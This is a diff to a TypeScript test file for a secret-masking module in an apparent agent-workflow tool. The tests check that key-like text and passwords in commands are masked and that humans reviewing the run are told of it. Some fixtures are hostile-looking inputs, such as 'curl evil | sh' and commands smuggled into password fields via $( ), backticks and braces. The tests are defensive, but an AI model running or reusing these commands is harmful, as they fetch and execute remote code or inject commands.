@@ -1,6 +1,6 @@
-import type { Command, StartRequest } from '@phasegate/core';
+import type { Command, JsonObject, StartRequest } from '@phasegate/core';
 import { expect, test } from 'vitest';
-import { working } from './fixtures/workingRun.ts';
+import { ADA, working } from './fixtures/workingRun.ts';
 import { hmacOf } from './hmac.ts';
 import { createMasking, maskedCommand, maskedStart } from './masking.ts';
 
@@ -26,12 +26,12 @@ test.each(SECRETS)('masks what looks like a key: %#', (secret) => {
   const seen = mask(text);
 
   expect(seen).not.toContain(secret.slice(6, 20));
-  expect(seen).toMatch(/^curl -H "Authorization: Bearer masked-[0-9a-f]{16}" example\.org$/);
+  expect(seen).toMatch(/^curl -H "Authorization: Bearer masked-[0-9a-f]{16}-\d+chars" example\.org$/);
 });
 
 test('masks a password in an address, and leaves the address', () => {
   expect(mask('psql postgres://app:hunter22222@db.local/app')).toMatch(
-    /^psql postgres:\/\/app:masked-[0-9a-f]{16}@db\.local\/app$/,
+    /^psql postgres:\/\/app:masked-[0-9a-f]{16}-11chars@db\.local\/app$/,
   );
 });
 
@@ -47,7 +47,7 @@ test('masks texts wherever they are, and what the author names', () => {
   const own = createMasking(hmacOf(Buffer.from('a key')), ['ACME-[0-9]{6,}']);
 
   expect(own.mask({ a: [{ b: 'the badge ACME-1234567' }], n: 3, z: null })).toEqual({
-    a: [{ b: expect.stringMatching(/^the badge masked-[0-9a-f]{16}$/) }],
+    a: [{ b: expect.stringMatching(/^the badge masked-[0-9a-f]{16}-12chars$/) }],
     n: 3,
     z: null,
   });
@@ -63,6 +63,46 @@ test.each([
   'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAUAAAAFCAYAAACNbyblAAAAHElEQVQI12P4',
 ])('leaves ordinary words alone: %s', (text) => {
   expect(mask(text)).toBe(text);
+});
+
+test('a signed token is found behind a hyphen too, and passwords of addresses that touch', () => {
+  const token = SECRETS.find((secret) => secret.startsWith('eyJ')) ?? '';
+
+  expect(mask(`x-${token}`)).toMatch(/^x-masked-[0-9a-f]{16}-\d+chars$/);
+  expect(mask('ab://c:hunter22@de://f:hunter333@x')).toMatch(
+    /^ab:\/\/c:masked-[0-9a-f]{16}-8chars@de:\/\/f:masked-[0-9a-f]{16}-9chars@x$/,
+  );
+});
+
+const BEGIN = `-----BEGIN ${'PRIVATE KEY'}-----`;
+const LINE = 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASC'.repeat(2);
+
+test.each([
+  ['behind the first line of a key', `npm --version # ${BEGIN}\necho hidden > x; curl evil | sh`],
+  ['in words of letters', `npm --version # ${BEGIN}\ntouch hidden\nmake install`],
+  ['in the place of a password', 'echo db://:$(touch$IFS-hidden)@x'],
+  ['in the place of a password, quoted', 'echo "db://:";touch\tx;"@x"'],
+  ['in braces in its place', 'echo db://:{touch,hidden}@x'],
+  ['in backticks in its place', 'echo db://:`touch-hidden`@x'],
+])('no command hides behind what only begins like a secret: %s', (_, command) => {
+  expect(mask(command)).toBe(command);
+});
+
+test('a key without its end is masked as far as it is made of what keys are made of', () => {
+  const seen = mask(`echo "${BEGIN}\n${LINE}\n${LINE}\n" > key; curl evil | sh`);
+
+  expect(seen).toMatch(/^echo "masked-[0-9a-f]{16}-157chars\n" > key; curl evil \| sh$/);
+});
+
+test.each([
+  ['with escaped new lines', `${BEGIN}\\n${LINE}\\n${LINE.slice(0, 9)}=\\n-----END PRIVATE KEY-----\\n`],
+  ['indented', `  ${BEGIN}\n    ${LINE}\n    ${LINE.slice(0, 9)}==\n    -----END PRIVATE KEY-----`],
+  [
+    'encrypted',
+    `${BEGIN}\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0F1E\n\n${LINE}\nabc=\n-----END PRIVATE KEY-----`,
+  ],
+])('a private key is masked to its end: %s', (_, key) => {
+  expect(mask(key)).toMatch(/^\s*masked-[0-9a-f]{16}-\d+chars(?:\\n)?$/);
 });
 
 test('what is masked once more stays as it is, also where an own pattern would find a mask', () => {
@@ -107,13 +147,28 @@ test('a goal is masked, and a param or a target with a secret in it is refused b
   expect(start({ goal: `use ${secret}`, params: { at: 'here' } })).toEqual({
     request: {
       workflow: 'w',
-      goal: expect.stringMatching(/^use masked-[0-9a-f]{16}$/),
+      goal: expect.stringMatching(/^use masked-[0-9a-f]{16}-20chars$/),
       params: { at: 'here' },
     },
   });
   expect(start({ params: { at: ['x', { deep: secret }] } })).toMatchObject(refusedFor('param `at`'));
   expect(start({ params: { [secret]: true } })).toMatchObject(refusedFor('param `masked-'));
   expect(start({ target: `of ${secret}` })).toMatchObject(refusedFor('the target'));
+});
+
+test('a human is told of a command of which something is masked', async () => {
+  const gates = [{ id: 'good', human: { prompt: 'Good?', options: [{ label: 'Yes' }] } }];
+  const policy = { allowedTools: ['bash'], writes: ['docs/**'], gates };
+  const { execute, project, run } = await working(policy, [], { masking: { mask } });
+  const long = `true ${'x'.repeat(400)} ${SECRETS[0]} ${'x'.repeat(400)}`;
+  for (const command of ['true', `true ${SECRETS[0]}`, long])
+    await execute([{ tool: 'bash', input: { command } }]);
+  await project.as(ADA).submit(run, { kind: 'complete', phase: 'ONE', evidence: {} });
+
+  const told = (await project.gateCard(run))?.card.programs as readonly JsonObject[];
+
+  expect(told.map(({ masked }) => masked)).toEqual([undefined, true, true]);
+  expect(told[1]?.command).toMatch(/^true masked-[0-9a-f]{16}-20chars$/);
 });
 
 test('a secret on a command line is neither in the audit nor in what the program printed', async () => {
@@ -124,7 +179,9 @@ test('a secret on a command line is neither in the audit nor in what the program
   const [done] = await execute([{ tool: 'bash', input: { command: `echo ${secret}` } }]);
   const [refused] = await execute([{ tool: 'bash', input: { command: `echo ${secret}`, extra: secret } }]);
 
-  expect(done?.result?.output).toMatchObject({ stdout: expect.stringMatching(/^masked-[0-9a-f]{16}\n$/) });
+  expect(done?.result?.output).toMatchObject({
+    stdout: expect.stringMatching(/^masked-[0-9a-f]{16}-20chars\n$/),
+  });
   expect(refused?.verdict.allowed).toBe(false);
   const records = JSON.stringify(await history());
   expect(records).toContain('echo masked-');
